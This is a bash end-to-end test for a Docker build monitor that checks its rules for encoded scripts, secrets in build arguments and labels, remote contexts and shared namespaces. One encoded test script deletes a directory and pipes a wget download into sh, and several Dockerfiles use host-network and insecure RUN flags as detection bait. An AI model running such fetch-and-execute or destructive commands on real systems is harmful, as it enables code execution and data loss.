#!/bin/bash
# builds.sh: what an image build carries, wherever it stands: Dockerfile, build arguments, labels, remote contexts, networks.
# shellcheck source=tests/e2e/lib.sh
. "$(dirname "$0")/lib.sh"
engine_up
base=invigil/base:1
sock=$engine/docker.sock
docker=/usr/bin/docker
server=
at_end() {
	[ -z "$server" ] || kill "$server" 2>/dev/null
	cleanup
}
trap at_end EXIT
context=$work/context
mkdir -p "$context/sub"
build() { # OPTIONS...: of $context; its output is in $work/out
	run -q -- $docker build --no-cache "$@" "$context" >"$work/out" 2>&1
}
answered() { # STATUS: one build, with that answer
	echo "[get(e, 'http.response.status_code') for e in action('image-build')] == [$1]"
}
of_docker() { # RULE WORDS: alerts about what the client asked for, with these words
	echo "[e for e in alerts('$1') if get(e, 'process.name') == 'docker' and get(e, 'url.path') and '$2' in get(e, 'invigil.evidence')]"
}
script=$(printf '#!/bin/sh\nrm -rf /srv/old\nwget -q http://127.0.0.1:1/next -O - | sh\n' | base64 -w 0)
letter=$(printf 'Dear reader, here is a letter in two lines,\nand nothing that anybody could execute.\n' | base64 -w 0)
digest=$(printf x | sha256sum | cut -c1-64)

# ---- encoded data in RUN lines, build arguments (R2) ----
printf 'FROM %s\nRUN true %s\n' $base "$script" >"$context/Dockerfile"
build -q -t coded:1
see "R2.2: a script in base64 in a RUN line" "$(answered 200) and $(of_docker R2.2 "base64 in Dockerfile RUN")"
printf 'FROM %s\nRUN true %s\n' $base "$letter" >"$context/Dockerfile"
build -q -t coded:1
see "R2.2, near miss: a letter in base64 is R2.1" "$(answered 200) and $(of_docker R2.1 "base64 in Dockerfile RUN") and not alerts('R2.2')"
printf 'FROM %s\nRUN true %s\n' $base "$digest" >"$context/Dockerfile"
build -q -t coded:1
see "R2.1, near miss: a digest" "$(answered 200) and not alerts('R2.1') and not alerts('R2.2')"
printf 'FROM %s\nRUN echo %s | base64 -d >/run.sh && chmod 755 /run.sh\n' $base "$letter" >"$context/Dockerfile"
build -q -t coded:1
see "R2.4: what a RUN line decodes is made executable" "$(answered 200) and $(of_docker R2.4 "Dockerfile RUN")"
printf 'FROM %s\nRUN echo %s | base64 -d >/run.sh && chmod 644 /run.sh\n' $base "$letter" >"$context/Dockerfile"
build -q -t coded:1
see "R2.4, near miss: it stays a text" "$(answered 200) and $(of_docker R2.1 "base64 in Dockerfile RUN") and not alerts('R2.4')"
printf 'FROM %s\nARG WORDS\nRUN true\n' $base >"$context/Dockerfile"
build -q -t coded:1 --build-arg "WORDS=$script"
see "R2.2: a script in base64 in a build argument" "$(answered 200) and $(of_docker R2.2 "base64 in a build argument")"
build -q -t coded:1 --build-arg "WORDS=$digest"
see "R2.2, near miss: a digest in one" "$(answered 200) and not alerts('R2.1') and not alerts('R2.2')"

# ---- secrets in build arguments and labels (R6.9, R7.3) ----
build -q -t coded:1 --build-arg NPM_TOKEN=geheim-und-lang-83
see "R6.9: a build argument" "$(answered 200) and $(of_docker R6.9 NPM_TOKEN)"
check "its value is nowhere" bash -c "! grep -q geheim-und '$ev'"
NPM_TOKEN='' build -q -t coded:1 --build-arg NPM_TOKEN --build-arg NPM_TOKENIZER=geheim-und-lang-83
see "R6.9, near miss: one without a value, one of another name" "$(answered 200) and not alerts('R6.9')"
build -q -t coded:1 --label DEPLOY_PASSWORD=geheim-und-lang-84 --label at=https://bob:hunter2-is-long@registry.example.org/x
see "R6.9, R7.3: labels" "$(answered 200) and $(of_docker R6.9 DEPLOY_PASSWORD) and $(of_docker R7.3 label)"
check "their values are nowhere" bash -c "! grep -qE 'geheim-und|hunter2-is' '$ev'"
build -q -t coded:1 --label DEPLOY_PASSWORDLESS=geheim-und-lang-84 --label at=https://registry.example.org/x
see "R6.9, R7.3, near miss: a label of another name, and one without a credential" \
	"$(answered 200) and not alerts('R6.9') and not alerts('R7.3')"

# ---- a Dockerfile elsewhere in the context ----
printf 'FROM %s\nENV DB_PASSWORD=geheim-und-lang-85\n' $base >"$context/sub/Other.file"
printf 'FROM %s\nRUN echo word-usual\n' $base >"$context/Dockerfile"
build -q -t coded:1 -f "$context/sub/Other.file"
see "R6.9: the Dockerfile that dockerfile= names" "$(answered 200) and $(of_docker R6.9 DB_PASSWORD) and 'dockerfile=sub' in get(action('image-build')[0], 'url.query') and not alerts('R6.13')"
build -q -t coded:1
see "R6.9, near miss: the usual one, with the other beside it" "$(answered 200) and not alerts('R6.9') and not alerts('R6.13')"
see "and it is the one whose steps are told" "[e for e in execs() if 'word-usual' in ' '.join(get(e, 'process.args', [])) and get(e, 'container.id')]"
printf 'FROM %s\nENV DB_PASSWORD=geheim-und-lang-85\n' $base >"$context/Dockerfile"
printf 'FROM %s\nRUN echo word-other\n' $base >"$context/sub/Other.file"
build -q -t coded:1 -f "$context/sub/Other.file"
see "R6.9, near miss: the usual one holds the password, and is not the one that is built" "$(answered 200) and not alerts('R6.9')"
see "the steps are those of the other" "[e for e in execs() if 'word-other' in ' '.join(get(e, 'process.args', [])) and get(e, 'container.id')]"

# The client packs the names of a context in their order.
for kib in 100 200; do
	printf 'FROM %s\nENV DB_PASSWORD=geheim-und-lang-85\n' $base >"$context/Dockerfile"
	head -c ${kib}k /dev/urandom >"$context/Before"
	build -q -t coded:1
	case $kib in
	100) see "R6.9: a Dockerfile behind $kib KiB of other files" "$(answered 200) and $(of_docker R6.9 DB_PASSWORD)" ;;
	200) see "R6.13: one behind more than is read of a request: that is said" "$(answered 200) and alerts('R6.13') and not alerts('R6.9') and gap('was not seen')" ;;
	esac
done
rm "$context/Before"

# ---- the argument of a step is the Dockerfile's text (R6.9), that of what the step executes is its own (R3.4) ----
steps_of() { # OPTION: quiet builds tell no container, loud ones do
	printf 'FROM %s\nRUN echo --password=geheim-und-lang-86\n' $base >"$context/Dockerfile"
	# shellcheck disable=SC2086
	build $1 -t coded:1
	see "a build $2: a secret in a step is R6.9" "$(answered 200) and $(of_docker R6.9 Dockerfile) and [e for e in execs() if get(e, 'container.id') and get(e, 'process.args', [''])[-1].startswith('echo --password=')]"
	see "R3.4, near miss: and not R3.4 beside it" "not alerts('R3.4')"
	printf 'FROM %s\nRUN p=geheim-und; /bin/busybox printf --password=$p-lang-87; true\n' $base >"$context/Dockerfile"
	# shellcheck disable=SC2086
	build $1 -t coded:1
	see "R3.4: what the step executes has an argument of its own" "$(answered 200) and len(alerts('R3.4')) == 1 and get(alerts('R3.4')[0], 'container.id') and get(alerts('R3.4')[0], 'process.args')[1] == 'printf'"
	printf 'FROM %s\nRUN p=geheim-und; exec /bin/busybox printf --password=$p-lang-87\n' $base >"$context/Dockerfile"
	# shellcheck disable=SC2086
	build $1 -t coded:1
	see "R3.4: what it executes in its own place, too" "$(answered 200) and len(alerts('R3.4')) == 1 and get(alerts('R3.4')[0], 'process.args')[1] == 'printf'"
}
steps_of "" "that tells its steps"
steps_of -q "that does not"

# ---- contexts that the engine fetches itself ----
mkdir "$work/www"
printf 'FROM %s\nRUN echo word-fetched; echo --password=geheim-und-lang-88\n' $base >"$work/www/Dockerfile"
tar -C "$work/www" -cf "$work/www/context.tar" Dockerfile
/usr/bin/python3 -u -m http.server --bind 127.0.0.1 --directory "$work/www" 0 >"$work/served" 2>&1 &
server=$!
check "a server on loopback" until_true 10 grep -q 'port [0-9]' "$work/served"
url=http://127.0.0.1:$(grep -o 'port [0-9]*' "$work/served" | cut -d' ' -f2)
fetched() { # PATH QUERY
	run -q -- curl -s -X POST --unix-socket "$sock" "http://localhost/v1.41/build?remote=$url/$1$2&nocache=1" -o "$work/out"
}
for path in context.tar Dockerfile; do
	fetched $path ""
	check "remote=: the engine fetches $path" grep -q "GET /$path " "$work/served"
	see "R8.5: its context is a URL; R6.13: its Dockerfile is not seen" \
		"$(answered 200) and ['$url/$path' in get(e, 'invigil.evidence') for e in alerts('R8.5')] == [True] and ['remote' in get(e, 'invigil.evidence') for e in alerts('R6.13')] == [True]"
	see "what its steps execute is told all the same" "[e for e in execs() if 'word-fetched' in ' '.join(get(e, 'process.args', [])) and len(get(e, 'container.id')) == 64]"
	see "R3.4: and what they were given, which no R6.9 has" "alerts('R3.4') and not alerts('R6.9')"
done
fetched context.tar "&q=1"
see "of a quiet one it is said that they are not" "$(answered 200) and gap('Dockerfile of a build that does not tell its containers') and not [e for e in execs() if 'word-fetched' in ' '.join(get(e, 'process.args', []))]"
run -q -- curl -s -X POST --unix-socket "$sock" -H 'Content-Type: application/x-tar' --data-binary "@$work/www/context.tar" "http://localhost/v1.41/build?t=coded:1&q=1" -o "$work/out"
see "R8.5, R6.13, near miss: the same context in the request" "$(answered 200) and not alerts('R8.5') and not alerts('R6.13') and alerts('R6.9')"

# ---- networks (R6.4): of a foreign container, of one's own; what the step sees tells which it was on ----
printf 'FROM %s\nRUN /bin/busybox readlink /proc/self/ns/net\n' $base >"$context/Dockerfile"
$docker run -d --name others --network none $base sleep 300 >/dev/null
its_network() { readlink "/proc/$($docker inspect -f '{{.State.Pid}}' "$1")/ns/net"; }
build --network container:others
check "a build's step is on the network of a container of others" grep -qF "$(its_network others)" "$work/out"
see "R6.4: networkmode=container:" "$(answered 200) and ['networkmode=container:others' in get(e, 'invigil.evidence') for e in alerts('R6.4')] == [True]"
run -q -- sh -c "$docker run -d --name mine --network none $base sleep 300 >/dev/null && $docker build --no-cache --network container:mine '$context' && $docker exec mine readlink /proc/self/ns/net" >"$work/out" 2>&1
check "or of one of its own" test "$(grep -c '^net:' "$work/out")" = 2 -a "$(grep '^net:' "$work/out" | sort -u | wc -l)" = 1
see "R6.4, near miss: networkmode=container: of its own" "$(answered 200) and not alerts('R6.4')"
$docker rm -f mine >/dev/null
# What a container is given of another.
given() { # OF: each option in one run
	run -q -- sh -c "$docker create --name mine $base true && $docker create --network container:$1 $base true && $docker create --pid container:$1 $base true && $docker create --ipc container:$1 $base true && $docker create --volumes-from $1:ro $base true" >"$work/out" 2>&1
	see "four containers are given something of $1" "[get(e, 'http.response.status_code') for e in action('container-create')] == [201] * 5"
	$docker rm -f mine >/dev/null
}
given others
see "R6.4: network, pid and ipc namespace, and volumes of a container of others" \
	"sorted(get(e, 'invigil.evidence').split('=')[0] for e in alerts('R6.4')) == ['IpcMode', 'NetworkMode', 'PidMode', 'VolumesFrom']"
given mine
see "R6.4, near miss: of its own" "not alerts('R6.4')"

# ---- flags of RUN: this engine's classic builder refuses them, but it was asked ----
flagged() { # FLAG
	printf 'FROM %s\nRUN %s true\n' $base "$1" >"$context/Dockerfile"
	build
	see "RUN $1 is in the request" "len(action('image-build')) == 1 and not alerts('R6.13')"
}
flagged --network=host
see "R6.4: a step on the host's network" "$(of_docker R6.4 "RUN --network=host")"
flagged --network=none
see "R6.4, near miss: on none" "not alerts('R6.4')"
flagged --security=insecure
see "R6.1: a step without a sandbox" "$(of_docker R6.1 "RUN --security=insecure")"
flagged --security=sandbox
see "R6.1, near miss: in one" "not alerts('R6.1')"
finish
